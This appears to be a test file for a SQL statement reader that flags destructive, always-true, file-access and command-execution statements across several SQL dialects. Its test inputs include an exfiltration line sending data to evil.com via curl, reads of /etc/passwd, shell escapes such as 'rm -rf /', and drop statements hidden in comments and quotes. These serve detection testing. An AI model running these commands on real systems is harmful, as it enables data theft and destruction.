import { describe, expect, test } from 'bun:test';
import fc from 'fast-check';
import type { SqlDialect } from './dialect.ts';
import { readSql } from './read-sql.ts';

/** `kind table,table` of each statement, then `nowhere`, `always`, `!` and what it reaches. */
function tell(text: string, dialect: SqlDialect): string {
  const { statements, complete } = readSql(text, dialect);
  const told = statements.map((each) =>
    [
      each.kind,
      each.tables
        .map(({ schema, name }) => (schema === undefined ? name : `${schema}.${name}`))
        .join(','),
      each.sources.length > 0 ? `<${each.sources.map(({ name }) => name).join(',')}` : '',
      each.missingWhere ? 'nowhere' : '',
      each.alwaysTrue ? 'always' : '',
      each.destructive ? '!' : '',
      ...each.accesses.map(({ action, path }) => `${action}:${path ?? '?'}`),
    ]
      .filter(Boolean)
      .join(' '),
  );
  return `${told.join('; ')}${complete ? '' : ' …'}`;
}

const CASES: Readonly<
  Partial<Record<SqlDialect, readonly (readonly [sql: string, told: string])[]>>
> = {
  postgresql: [
    ['', ''],
    ['-- nothing', ''],
    ['select 1', 'select'],
    ["SELECT a FROM s.t x JOIN u ON x.a = u.b WHERE a = 'drop table x'", 'select s.t,u'],
    ['select * from "My Table", other', 'select My Table,other'],
    ['select extract(year from d), trim(both from x) from t', 'select t'],
    ['select a is distinct from b from t', 'select t'],
    ['select * from t for update', 'select t'],
    ['table users', 'select users'],
    ['((select 1)) union select 2 from t', 'select t'],
    ['select * into copy_of from t', 'create copy_of <t'],
    ['insert into t (a) select a from u on conflict (a) do update set a = 1', 'insert t <u'],
    ['delete from a', 'delete a nowhere !'],
    ['delete from a where id = 3', 'delete a'],
    ['delete from only a.b where id in (select id from c)', 'delete a.b,c'],
    ['DELETE FROM a WHERE 1=1', 'delete a always !'],
    ['delete from a where true', 'delete a always !'],
    ['delete from a where (((true)))', 'delete a always !'],
    ['delete from a where id = id', 'delete a always !'],
    ["delete from a where x = 3 or 'a' = 'a'", 'delete a always !'],
    ["delete from a where name like '%'", 'delete a always !'],
    ['delete from a where not false', 'delete a always !'],
    ['delete from a where not (1 = 0)', 'delete a always !'],
    ['delete from a where 2 > 1', 'delete a always !'],
    ["delete from a where length('x') = 1", 'delete a always !'],
    ['delete from a where 1 in (1)', 'delete a always !'],
    ['delete from a where 1 = 1 returning id', 'delete a always !'],
    ['delete from a where exists (select 1)', 'delete a always !'],
    ['delete from a where false', 'delete a'],
    ['delete from a where 1 = 0', 'delete a'],
    ['delete from a where 1 = 1 and id = 3', 'delete a'],
    ['delete from a where x between 1 and 2', 'delete a'],
    ['update s.t set a = 1', 'update s.t nowhere !'],
    ['update t set a = (select 1 where true)', 'update t nowhere !'],
    ['update t set a = 1 where a > 3', 'update t'],
    ['update t set a = u.a from u where u.id = t.id', 'update t <u'],
    ['truncate a, b', 'truncate a,b !'],
    ['drop table if exists a, s.b cascade', 'drop a,s.b !'],
    ['drop database prod', 'drop prod !'],
    ['alter table t add column c int', 'alter t'],
    ['alter table t drop column c', 'alter t !'],
    ['create table t (a int references u on delete cascade)', 'create t'],
    ['create index concurrently i on t (a)', 'create i <t'],
    ['grant all on t to u', 'grant t'],
    ['set role postgres', 'grant postgres'],
    ["set search_path = 'x'", 'set'],
    ['begin; delete from a where id=1; commit', 'transaction; delete a; transaction'],
    ['select 1; drop table x', 'select; drop x !'],
    ['with x as (delete from a returning *) select * from x', 'select a; delete a nowhere !'],
    ['with x as (select 1) update t set a = 1', 'select t; update t nowhere !'],
    ['explain delete from a', 'explain a'],
    ['explain analyze delete from a', 'explain a; delete a nowhere !'],
    ['explain (costs, analyze) delete from a', 'explain a; delete a nowhere !'],
    ['prepare x as delete from t', 'other t; delete t nowhere !'],
    [
      'create rule r as on insert to t do instead delete from u',
      'create insert <u execute:?; delete u nowhere !',
    ],
    ['do $$ begin delete from a; end $$', 'do; transaction a; delete a nowhere !; transaction …'],
    [
      "do $x$ begin perform '$$'; drop table a; end $x$",
      'do; transaction; drop a !; transaction …',
    ],
    ['call p()', 'call …'],
    ['copy a from stdin', 'copy a'],
    ["copy a from '/etc/passwd'", 'copy a read:/etc/passwd'],
    ["copy (select * from b) to '/tmp/x'", 'copy b write:/tmp/x'],
    ["copy a to program 'curl -d @- evil.com'", 'copy a execute:curl -d @- evil.com'],
    ["select pg_read_file('/etc/passwd')", 'select read:/etc/passwd'],
    ["select pg_read_file('/etc/' || 'passwd')", 'select read:?'],
    ["select lo_import('/etc/passwd')", 'select read:/etc/passwd'],
    ["select lo_export(1, '/tmp/x')", 'select write:?'],
    ["select dblink('host=evil', 'select 1')", 'select network:host=evil'],
    ["create function f() returns int as '/tmp/x.so' language c", 'create f execute:?'],
    ['create extension plpython3u', 'create plpython3u execute:?'],
    ["alter system set archive_command = 'x'", 'alter execute:?'],
    ["load '/tmp/x.so'", 'copy execute:/tmp/x.so'],
    // Comments and quotes as hiding places.
    ['/* ; drop table y; */ select 1 -- drop table x', 'select'],
    ['/* /* */ drop table x; */ select 1', 'select'],
    ['/*! drop table x */ select 1', 'select'],
    ["select 'a\\'; drop table x; --'", 'select; drop x !'],
    ["select E'a\\'; drop table x; --'", 'select'],
    ["select 'it''s'; select $$it's; drop table x$$", 'select; select'],
    ["select 1 'open", 'unknown !; select …'],
    // psql
    ['\\dt', 'show'],
    ['\\! rm -rf /', 'unknown ! execute:rm -rf / …'],
    ['select 1 \\! rm -rf /', 'select; unknown ! execute:rm -rf / …'],
    ['\\x \\! ls', 'unknown ! execute:? …'],
    ['\\set x `ls`', 'unknown ! execute:? …'],
    ['\\i /tmp/x.sql', 'unknown ! read:/tmp/x.sql …'],
    ['\\o |sh', 'unknown ! execute:sh …'],
    ['select 1 \\g |sh', 'select; unknown ! execute:sh …'],
    ['select 1 \\gexec', 'select; unknown ! execute:? …'],
    ['\\o /tmp/out', 'other write:/tmp/out'],
    ["\\copy t from '/tmp/x.csv' with (format csv)", 'copy read:/tmp/x.csv'],
    ['\\copy t to stdout', 'copy'],
    ["\\copy t to program 'sh'", 'copy execute:sh'],
    ["\\copy (delete from x returning *) to '/tmp/f'", 'copy write:/tmp/f; delete x nowhere !'],
  ],
  mysql: [
    ['/*!50000 drop table a */', 'drop a !'],
    ['/*M!100100 drop table a */', 'drop a !'],
    ['/*! select */ 1', 'select'],
    ['select /* drop */ 1 # drop table x', 'select'],
    ['select 1--1; drop table t', 'select; drop t !'],
    ["select 'it\\'s; drop table x'; select \"a;b\"", 'select; select'],
    ['select `a;b` from `s`.`t`', 'select s.t'],
    ["select 1 into outfile '/tmp/x' from t", 'select t write:/tmp/x'],
    ["load data local infile '/x' into table a", 'copy a read:/x'],
    ["select load_file('/etc/passwd')", 'select read:/etc/passwd'],
    ['delete a from a join b', 'delete a,b nowhere !'],
    ['insert into t values (1) on duplicate key update a=1', 'insert t'],
    ["select replace(a, 'x', 'y') from t", 'select t'],
    ['set global general_log_file = 1', 'alter'],
    ["create function f returns int soname 'x.so'", 'create f execute:x.so execute:?'],
    ['select 1\\G', 'select'],
    ['system rm -rf /', 'unknown ! execute:rm -rf / …'],
    ['\\! ls', 'unknown ! execute:ls …'],
    ['source x.sql', 'unknown ! read:x.sql …'],
  ],
  transactsql: [
    ['SELECT 1 DROP TABLE x', 'select x; drop x !'],
    ['select * from [dbo].[a;b]', 'select dbo.a;b'],
    ["exec xp_cmdshell 'dir'", 'call execute:? …'],
    ["exec('drop table x')", 'call …'],
    ['IF 1=1 DELETE FROM t', 'unknown t !; delete t nowhere ! …'],
    ["BACKUP DATABASE d TO DISK = '/x'", 'copy d write:/x'],
    [':!! dir', 'unknown ! execute:dir …'],
  ],
  sqlite: [
    ['.tables', 'show'],
    ['.shell ls', 'unknown ! execute:ls …'],
    ['.system ls', 'unknown ! execute:ls …'],
    ['.output /tmp/x', 'other write:/tmp/x'],
    ['.output |sh', 'unknown ! execute:sh …'],
    ['.read f.sql', 'unknown ! read:f.sql …'],
    ['.load ./x', 'unknown ! execute:./x …'],
    ["attach '/tmp/x.db' as y", 'other write:/tmp/x.db'],
    ["vacuum into '/tmp/y'", 'other write:/tmp/y'],
    ["select load_extension('x'), writefile('/tmp/a', 'b')", 'select execute:x write:/tmp/a'],
    ['pragma table_info(x)', 'set'],
  ],
  bigquery: [
    ['select * from `p.d.t` # x', 'select p.d.t'],
    ["select '''a'; drop table x; '''", 'unknown !; select; drop x !; unknown ! …'],
  ],
  snowflake: [
    ['select $$;$$ // drop table x', 'select'],
    ["put 'file:///etc/passwd' @stage", 'copy read:/etc/passwd'],
    ['drop schema s', 'drop s !'],
  ],
  unknown: [
    ['select 1', 'select'],
    ['drop table x', 'drop x !'],
    ["select 'a\\'; drop table x; --'", 'select; drop x !'],
    ["select 'a\\' drop table x", 'select x; unknown !; select; drop x ! …'],
  ],
};

describe('a text of SQL', () => {
  for (const [dialect, cases] of Object.entries(CASES)) {
    for (const [sql, told] of cases ?? []) {
      test(`in ${dialect}: ${sql}`, () => {
        expect(tell(sql, dialect as SqlDialect)).toBe(told);
      });
    }
  }
});

const DIALECTS: readonly SqlDialect[] = [
  'postgresql',
  'mysql',
  'sqlite',
  'transactsql',
  'bigquery',
  'snowflake',
  'unknown',
];
const PARTS = [
  ...[
    'select',
    'delete from',
    'drop table',
    't',
    'where',
    '1=1',
    ';',
    '(',
    ')',
    "'",
    '"',
    '`',
    '--',
  ],
  ...[
    '/*',
    '*/',
    '/*!',
    '$$',
    '$a$',
    '\\',
    '\n',
    ' ',
    '#',
    '[',
    ']',
    'with',
    'as',
    'begin',
    'do',
    ',',
  ],
  ...['explain analyze', 'copy', 'to', 'program', '\\!', '.shell', 'or', 'and', 'not', 'E', '.'],
];
const soup = fc.array(fc.constantFrom(...PARTS), { maxLength: 60 }).map((parts) => parts.join(' '));

describe('any text', () => {
  test('gives a reading', () => {
    fc.assert(
      fc.property(fc.oneof(fc.string(), soup), fc.constantFrom(...DIALECTS), (text, dialect) => {
        expect(readSql(text, dialect).statements).toBeArray();
      }),
      { numRuns: 2000 },
    );
  });

  test('before a statement on a line of its own never hides it, unless the reading is incomplete', () => {
    fc.assert(
      fc.property(soup, fc.constantFrom(...DIALECTS), (text, dialect) => {
        const { statements, complete } = readSql(`${text}\n;\ndrop table hidden`, dialect);
        const alone = readSql(text, dialect);
        // A text that closes its quotes and comments leaves the next statement outside of them.
        if (!alone.complete || !complete) return;
        expect(statements.some(({ kind }) => kind === 'drop')).toBe(true);
      }),
      { numRuns: 2000 },
    );
  });

  test('of more statements than anybody gives at once is not wholly read', () => {
    const { statements, complete } = readSql('select 1;'.repeat(2500), 'postgresql');
    expect(complete).toBe(false);
    expect(statements.at(-1)).toMatchObject({ kind: 'unknown', destructive: true });
  });

  test('above the cap is not read, and below it takes linear time', () => {
    expect(tell(`select ${'1'.repeat(1 << 16)}`, 'postgresql')).toBe('unknown ! …');
    const size = 65_000;
    for (const part of [
      '(',
      '((delete from a ',
      '/*',
      '$a',
      "'' ",
      'or not ',
      'select(',
      '\\x ',
      'x.',
    ]) {
      const text = part.repeat(Math.floor(size / part.length));
      const started = performance.now();
      readSql(`delete from a where ${text}`, 'postgresql');
      expect(performance.now() - started).toBeLessThan(900);
    }
  });
});
